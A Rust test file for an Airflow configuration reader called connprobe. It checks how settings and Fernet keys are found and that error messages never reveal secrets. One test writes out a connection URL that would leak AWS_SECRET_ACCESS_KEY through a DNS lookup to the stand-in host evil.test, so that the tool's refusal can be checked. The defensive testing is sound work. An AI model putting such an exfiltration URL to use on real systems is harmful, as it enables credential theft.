//! Compares the settings that connprobe finds with those that Airflow finds, and tests the errors.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::time::Duration;

use proptest::prelude::*;
use serde::Deserialize;
use tempfile::TempDir;

use super::expansion::expand;
use super::file::File;
use super::*;
use crate::model::reason::unusable::{
    BadSyntax, CommandFault, Configuration as Fault, Instead, Interpolation, SettingPlace,
};
use crate::model::reason::{Source, Unusable};
use crate::source::error::SourceError;
use crate::source::settings::{Environment, Settings};

/// One case of `fixtures/airflow/configuration.json`; the last two fields are Airflow's own answers.
#[derive(Deserialize)]
struct Case {
    what: String,
    environment: BTreeMap<String, String>,
    file: String,
    url: Answer,
    fernet_key: Answer,
}

#[derive(Debug, Deserialize, PartialEq)]
#[serde(untagged)]
enum Answer {
    Text(String),
    Error { error: String },
}

/// Airflow's home directory when it gave these answers.
const HOME: &str = "/airflow-home";

/// An Airflow home with the file `text`, and settings that point to it.
fn home(text: &str, environment: &[(&str, &str)]) -> (TempDir, Settings) {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("airflow.cfg");
    if !text.is_empty() {
        fs::write(&path, text).unwrap();
    }
    let settings = settings(directory.path(), environment);
    (directory, settings)
}

/// Settings that point to the Airflow home `directory`.
fn settings(directory: &Path, environment: &[(&str, &str)]) -> Settings {
    let path = directory.join("airflow.cfg");
    let own = [("AIRFLOW_HOME", HOME), ("HOME", HOME), ("AIRFLOW_CONFIG", path.to_str().unwrap())];
    let variables = own.iter().chain(environment).map(|(name, value)| (name.into(), value.into()));
    Settings { environment: Environment::of(variables), allow_commands: true, ..Settings::default() }
}

fn variable(name: &str) -> SettingPlace {
    SettingPlace::Variable(name.to_owned())
}

/// A line of the section `core` of the file in `directory`.
fn line(directory: &Path, name: &str, line: usize) -> SettingPlace {
    let file = directory.join("airflow.cfg").display().to_string();
    SettingPlace::Line { section: "core", name: name.to_owned(), file, line }
}

/// The fault of the configuration in `error`.
fn fault(error: SourceError) -> Fault {
    match error {
        SourceError::Own(Source::Unusable { why, .. }) => match *why {
            Unusable::Configuration(fault) => fault,
            other => panic!("{other:?}"),
        },
        other => panic!("{other:?}"),
    }
}

fn url(settings: &Settings) -> Result<String, SourceError> {
    Configuration::of("airflow", settings)?.database_url().map(|url| url.expose().to_owned())
}

fn fernet_key(settings: &Settings) -> Result<Option<Found>, SourceError> {
    Configuration::of("airflow", settings)?.fernet_keys()
}

#[test]
fn settings_are_found_as_airflow_finds_them() {
    let cases: Vec<Case> =
        serde_json::from_str(include_str!("../../../../fixtures/airflow/configuration.json")).unwrap();
    assert!(cases.len() > 30);
    for Case { what, environment, file, url: expected_url, fernet_key: expected_key } in cases {
        // Airflow treats an empty file like a missing one. connprobe finds an Airflow here only if the file exists.
        let file = if file.is_empty() { "\n" } else { &file };
        let environment: Vec<(&str, &str)> =
            environment.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
        let (_directory, settings) = home(file, &environment);
        for (found, expected) in [
            (url(&settings), expected_url),
            (
                fernet_key(&settings).map(|key| key.map_or(String::new(), |key| key.value.expose().to_owned())),
                expected_key,
            ),
        ] {
            match (found, expected) {
                (Ok(found), Answer::Text(expected)) => assert_eq!(found.trim(), expected.trim(), "{what}"),
                (Err(_), Answer::Error { .. }) => {}
                (found, expected) => panic!("{what}: {found:?} instead of {expected:?}"),
            }
        }
    }
}

#[test]
fn the_file_is_where_airflow_looks_for_it() {
    let directory = tempfile::tempdir().unwrap();
    let root = directory.path().to_str().unwrap();
    for (path, url) in [("airflow", "at-home"), ("there", "at-airflow-home"), ("else", "elsewhere")] {
        fs::create_dir(directory.path().join(path)).unwrap();
        let text = format!("[database]\nsql_alchemy_conn = {url}\n");
        fs::write(directory.path().join(path).join("airflow.cfg"), text).unwrap();
    }
    let elsewhere = format!("{root}/else/airflow.cfg");
    for (environment, expected) in [
        (&[("HOME", root)][..], "at-home"),
        (&[("HOME", root), ("AIRFLOW_HOME", "~/there")], "at-airflow-home"),
        (&[("ROOT", root), ("AIRFLOW_HOME", "$ROOT/there")], "at-airflow-home"),
        (&[("HOME", root), ("AIRFLOW_CONFIG", &elsewhere)], "elsewhere"),
        (&[("HOME", root), ("AIRFLOW_HOME", "~/there"), ("AIRFLOW_CONFIG", "~/else/airflow.cfg")], "elsewhere"),
    ] {
        let variables = environment.iter().map(|(name, value)| (name.into(), value.into()));
        let settings = Settings { environment: Environment::of(variables), ..Settings::default() };
        assert_eq!(url(&settings).unwrap(), expected, "{environment:?}");
    }
}

#[test]
fn the_default_database_is_used_where_there_is_an_airflow() {
    let directory = tempfile::tempdir().unwrap();
    let root = directory.path().to_str().unwrap();
    let settings =
        Settings { environment: Environment::of([("AIRFLOW_HOME".into(), root.into())]), ..Settings::default() };
    let said = url(&settings).unwrap_err().to_string();
    let expected = format!(
        "`airflow` cannot be read: there is no Airflow in the environment: no `AIRFLOW__DATABASE__SQL_ALCHEMY_CONN`, no `{root}/airflow.cfg`"
    );
    assert_eq!(said, expected);
    fs::write(directory.path().join("airflow.db"), "").unwrap();
    assert_eq!(url(&settings).unwrap(), format!("sqlite:///{root}/airflow.db"));
}

#[test]
fn the_place_of_a_key_is_named() {
    let (_directory, settings) = home("", &[("AIRFLOW__CORE__FERNET_KEY", "k")]);
    assert_eq!(fernet_key(&settings).unwrap().unwrap().place, variable("AIRFLOW__CORE__FERNET_KEY"));
    let (directory, settings) = home("\n[core]\nfernet_key = k\n", &[]);
    let place = fernet_key(&settings).unwrap().unwrap().place;
    assert_eq!(place, line(directory.path(), "fernet_key", 3));
}

#[test]
fn what_cannot_be_used_is_named_with_its_place_and_never_quoted() {
    const KEY: &str = "AIRFLOW__CORE__FERNET_KEY";
    let command = format!("{KEY}_CMD");
    let secret = format!("{KEY}_SECRET");
    let (directory, _) = home("", &[]);
    let place = |name, number| line(directory.path(), name, number);
    let file = || directory.path().join("airflow.cfg").display().to_string();
    let percent = |why| Fault::Percent { place: place("fernet_key", 2), why };
    let syntax = |line, what| Fault::Syntax { file: file(), line, what };
    let instead = Instead::Keys;
    for (text, environment, expected) in [
        (
            "[core]\nfernet_key_cmd = echo CANARY\n",
            &[][..],
            Fault::CommandNotAllowed { place: place("fernet_key_cmd", 2), instead },
        ),
        ("", &[(&*command, "echo CANARY")], Fault::CommandNotAllowed { place: variable(&command), instead }),
        (
            "[core]\n\nfernet_key_secret = CANARY\n[secrets]\nbackend = airflow.x.Backend\n",
            &[],
            Fault::BackendSecret { place: place("fernet_key_secret", 3), instead },
        ),
        (
            "",
            &[(&*secret, "CANARY"), ("AIRFLOW__SECRETS__BACKEND", "airflow.x.Backend")],
            Fault::BackendSecret { place: variable(&secret), instead },
        ),
        ("", &[(KEY, "CANARY$A"), ("A", "$A$A.")], Fault::Endless { place: variable(KEY) }),
        ("[core]\nfernet_key = 100%CANARY\n", &[], percent(Interpolation::Percent)),
        ("[core]\nfernet_key = %(CANARY)s\n", &[], percent(Interpolation::Missing)),
        ("[core]\nfernet_key = %(fernet_key)sCANARY\n", &[], percent(Interpolation::Endless)),
        ("[core]\nCANARY\n", &[], syntax(2, BadSyntax::Neither)),
        ("fernet_key = CANARY\n", &[], syntax(1, BadSyntax::BeforeSection)),
        ("[core]\na = CANARY\na = CANARY\n", &[], syntax(3, BadSyntax::SettingTwice)),
    ] {
        fs::write(file(), text).unwrap();
        let settings = settings(directory.path(), environment);
        let error = fernet_key(&Settings { allow_commands: false, ..settings }).unwrap_err();
        assert!(!format!("{error} {error:?}").contains("CANARY"), "{text}");
        assert_eq!(fault(error), expected, "{text}");
    }
}

/// DNS is never asked for a name that contains a secret.
#[test]
fn a_secret_s_variable_names_no_host() {
    const URL: &str = "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN";
    let evil = "postgresql://u:p@$AWS_SECRET_ACCESS_KEY.evil.test/x";
    let (_directory, settings) = home("", &[(URL, evil), ("AWS_SECRET_ACCESS_KEY", "CANARY")]);
    let error = url(&settings).unwrap_err();
    assert!(!format!("{error} {error:?}").contains("CANARY"));
    let named = "AWS_SECRET_ACCESS_KEY".to_owned();
    assert_eq!(fault(error), Fault::SecretInHost { place: variable(URL), variable: named });
}

#[test]
fn a_secret_without_a_backend_is_passed_over_as_by_airflow() {
    const SECRET: (&str, &str) = ("AIRFLOW__CORE__FERNET_KEY_SECRET", "name");
    for (text, environment, expected) in [
        ("[core]\nfernet_key = k\n", &[SECRET][..], Some("k")),
        ("[core]\nfernet_key = k\n[secrets]\nbackend =\n", &[SECRET], Some("k")),
        ("[core]\nfernet_key_secret = name\n", &[], None),
        ("", &[SECRET], None),
    ] {
        let (_directory, settings) = home(text, environment);
        let found = fernet_key(&settings).unwrap();
        assert_eq!(found.as_ref().map(|found| found.value.expose()), expected, "{text}");
    }
}

#[test]
fn the_schema_of_the_tables_is_found_under_both_names() {
    for (text, environment, expected) in [
        ("[database]\nsql_alchemy_schema = airflow\n", &[][..], Some("airflow")),
        ("[core]\nsql_alchemy_schema = old\n", &[], Some("old")),
        ("[database]\nsql_alchemy_schema =\n", &[], None),
        ("[database]\nsql_alchemy_schema = a\n", &[("AIRFLOW__DATABASE__SQL_ALCHEMY_SCHEMA", "b")], Some("b")),
        ("", &[("AIRFLOW__CORE__SQL_ALCHEMY_SCHEMA", "c")], Some("c")),
        ("\n", &[], None),
    ] {
        let (_directory, settings) = home(text, environment);
        let found = Configuration::of("airflow", &settings).unwrap().schema().unwrap();
        assert_eq!(found.as_deref(), expected, "{text}");
    }
}

#[test]
fn a_command_that_fails_is_named_by_its_setting() {
    let (_directory, settings) =
        home("", &[("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN_CMD", "sh -c 'echo CANARY; exit 7'")]);
    let failed = |why| Fault::Command {
        place: variable("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN_CMD"),
        why,
        instead: Instead::Database,
    };
    let error = url(&settings).unwrap_err();
    assert_eq!(fault(error), failed(CommandFault::Failed { status: "exit status: 7".to_owned() }));
    let (_directory, settings) = home("", &[("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN_CMD", "sleep 60")]);
    let limit = Duration::from_millis(100);
    let error = url(&Settings { limit, ..settings }).unwrap_err();
    assert_eq!(fault(error), failed(CommandFault::Late { limit }));
}

#[test]
fn an_empty_url_and_an_unreadable_file_are_said() {
    let (_directory, settings) = home("", &[("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "")]);
    let place = variable("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN");
    assert_eq!(fault(url(&settings).unwrap_err()), Fault::Empty { place });
    let (directory, settings) = home("", &[("AIRFLOW__CORE__FERNET_KEY", "k")]);
    fs::create_dir(directory.path().join("airflow.cfg")).unwrap();
    assert!(fernet_key(&settings).unwrap().is_some(), "the environment answers");
    assert!(matches!(url(&settings), Err(SourceError::Own(Source::Directory { .. }))));
}

proptest! {
    /// Texts of the characters that have a meaning, and any other texts.
    #[test]
    fn no_text_breaks_the_reading(text in "[$~{}%()s=:#;\\n\\[\\] aé\"'\\\\]{0,80}|(?s).{0,80}") {
        let environment = Environment::of([("a".into(), "$s".into()), ("s".into(), "~".into())]);
        drop(expand(&text, &environment));
        drop(interpolation::interpolate(&text, &|_name| Some("%%a")));
        if let Ok(file) = File::parse(&format!("[core]\n{text}")) {
            drop(file.get("core", "s"));
        }
    }
}
